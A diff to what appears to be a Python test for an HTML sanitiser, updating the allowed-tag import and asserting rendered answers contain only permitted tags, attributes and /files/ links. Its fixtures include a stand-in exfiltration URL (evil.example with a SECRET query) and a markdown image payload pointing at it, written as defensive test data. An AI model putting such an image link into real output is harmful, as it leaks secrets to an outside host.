@@ -4,9 +4,7 @@ from __future__ import annotations
 
 from html.parser import HTMLParser
 
-from appliance.conversations.rendering import (
-    ALLOWED_TAGS,
-)
+from appliance.common.markup import ANSWER
 
 ALLOWED = {
     "span": {"class"},
@@ -14,6 +12,7 @@ ALLOWED = {
     "ol": {"start"},
     "a": {"class", "data-handle", "data-lines", "href", "title"},
 }
+
 EVIL = "https://evil.example/?d=SECRET"
 HOSTILE = [
     f"![x]({EVIL})",
@@ -96,7 +95,7 @@ def elements_of(html: str) -> Elements:
 def assert_harmless(html: str) -> Elements:
     elements = elements_of(html)
     for tag, attributes in elements.found:
-        assert tag in ALLOWED_TAGS | {"a"}
+        assert tag in ANSWER.tags | {"a"}
         assert attributes.keys() <= ALLOWED.get(tag, set()), (tag, attributes)
         assert (attributes.get("href") or "/files/").startswith("/files/")
     return elements
